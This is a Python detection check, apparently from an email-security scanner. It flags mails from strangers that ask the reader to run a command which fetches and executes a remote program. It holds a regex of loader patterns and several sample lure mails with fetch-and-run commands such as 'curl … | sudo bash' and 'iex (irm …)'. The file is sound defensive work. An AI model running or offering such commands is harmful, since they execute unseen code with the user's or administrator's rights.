"""A command in the text loads a program from a stranger's host and runs it at once."""

from __future__ import annotations

import re
from collections.abc import Iterator

from mekiki.checks.form import Confidence, Evidence, Example, Message, Severity, Sighting, Text, check, mail
from mekiki.checks.readings.namedbrands import foreign_sender
from mekiki.checks.readings.parties import comes_from_strangers
from mekiki.checks.readings.phrases import one_line
from mekiki.checks.readings.weblinks import home, is_well_known
from mekiki.knowledge.domains import registrable_domain
from mekiki.model.facts import Domain, Quote
from mekiki.model.regex import regex

_LOADERS = ("curl", "wget", "iex", "invoke-", "downloadstring", "mshta", "certutil", "rundll32")
_SHELL = r"(?:sudo[ \t]{1,3}(?:-\w{1,8}[ \t]{1,3}){0,3})?(?:ba|z|da|k)?sh\b"
_FETCHES = r"\b(?:curl|wget)(?:\.exe)?[ \t]"
_COMMAND = regex(
    rf"{_FETCHES}[^\n|]{{3,300}}\|[ \t]{{0,3}}(?:{_SHELL}|(?:sudo[ \t]{{1,3}})?(?:python3?|perl|node)\b)"
    rf"|{_FETCHES}[^\n|;&]{{3,300}}(?:&&|;)[^\n]{{0,60}}(?:chmod \+?[0-7x]{{1,4}}|{_SHELL} \S)"
    rf"|(?:{_SHELL}|source|eval)[ \t]{{1,3}}(?:-c[ \t]{{1,3}})?[\"']?(?:<\(|\$\()[ \t]?{_FETCHES}[^\n]{{3,300}}\)"
    r"|\b(?:irm|iwr|curl|invoke-(?:restmethod|webrequest))\b[^\n|]{3,300}\|[ \t]{0,3}(?:iex|invoke-expression)\b"
    r"|\b(?:iex|invoke-expression)\b[^\n]{0,80}\b(?:irm|iwr|invoke-|downloadstring|http)[^\n]{3,300}"
    r"|\bmshta(?:\.exe)?[ \t]{1,3}[\"']?(?:https?:|javascript:|vbscript:)[^\n]{3,300}"
    r"|\bmsiexec(?:\.exe)?[ \t][^\n]{0,40}/(?:i|package)[ \t]{1,3}[\"']?https?://[^\n]{3,300}"
    r"|\bcertutil(?:\.exe)?[ \t][^\n]{0,40}-urlcache[^\n]{3,300}"
    r"|\brundll32(?:\.exe)?[ \t]{1,3}\\\\[^\n]{3,300}",
    re.IGNORECASE,
)
_HOST = regex(r"(?:https?://|\\\\|[ \t\"'(])((?:[a-z0-9-]{1,63}\.){1,6}[a-z]{2,24})(?=[/\\:\"')\s@]|$)", re.IGNORECASE)
_SHOWN = 90  # characters of a command that a finding quotes


@check(
    id="request.fetch-and-run",
    signs=(_LOADERS,),
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    asks="malware",
    title=Text(en="A command that loads and runs a program", ja="外部のプログラムを読み込んで実行させるコマンド"),
    found=Text(
        en="The mail has a command that loads a program from {host} and runs it: “{words}”.",
        ja="{host} からプログラムを読み込み、そのまま実行するコマンドが書かれています：「{words}」。",
    ),
    why=Text(
        en="Such a command runs whatever the host answers with, unseen, with your rights or with those of the administrator. No "
        "filter stands between: you start it yourself.",
        ja="このコマンドは、相手のサーバーが返すものを中身も見ずに実行します。root や管理者の権限で動けば、サーバーごと乗っ取られます。"
        "自分の手で起動するため、途中で止めるものがありません。",
    ),
    innocent=Text(
        en="Many programs are installed like this. Take the command from the project's own page, and read what it loads before it "
        "runs.",
        ja="同じ形で導入するソフトも多くあります。コマンドは公式サイトから写し、読み込むスクリプトに目を通してから実行してください。",
    ),
    examples=(
        Example(
            mail(
                "Renewal failed. Run this on your server as root:\n\ncurl -fsSL https://get.relink-cert.com/r.sh | sudo bash\n",
                from_="Certificate desk <desk@cert-mails.com>",
            ),
            sees=({"host": "get.relink-cert.com", "words": "curl -fsSL https://get.relink-cert.com/r.sh | sudo bash"},),
        ),
        Example(
            mail(
                "次のコマンドを PowerShell に貼り付けてください。\npowershell -w h iex (irm https://fix-17.com/a)\n",
                from_="窓口 <desk@cert-mails.com>",
            ),
            sees=({"host": "fix-17.com", "words": "iex (irm https://fix-17.com/a)"},),
        ),
        Example(
            mail(
                "Thank you for buying. Install it: curl -sSL https://get.larsen-tools.com | sh",
                from_="a@larsen-tools.com",
            )
        ),
        Example(
            mail("To look at the answer: curl -s https://api.garden-tools.com/v1/state | jq .", from_="a@home-17.com")
        ),
        Example(
            mail(
                "> curl https://get.garden-tools.com | sh\nThat hangs on Debian; see the ticket.",
                from_="Kim <kim@larsen-doors.com>",
                headers=("List-Post: <mailto:users@lists.garden.example>", "List-Id: <users.lists.garden.example>"),
            )
        ),
    ),
    source="help.passaicschools.org/support/announcements/16000023748: no genuine site has a command copied and run; "
    "hits in the development corpus: 0 of 1748 bad, 0 of 1416 genuine",
)
def fetch_and_run(message: Message, evidence: Evidence) -> Iterator[Sighting]:
    if not comes_from_strangers(message):
        return
    for body in message.shown or message.bodies:
        for found in _COMMAND.finditer(body.text):
            host = _HOST.search(found[0])
            if host is not None and _is_strange(message, host[1].lower()):
                words = Quote(one_line(found[0])[:_SHOWN])
                yield Sighting((body.place(*found.span()),), {"host": Domain(host[1].lower()), "words": words})
                return


def _is_strange(message: Message, host: str) -> bool:
    """Whether a host is nobody's that is known; the sender's own is, unless the name of the sender is another's."""
    if foreign_sender(message):
        return True
    return registrable_domain(host) != home(message) and not is_well_known(host)
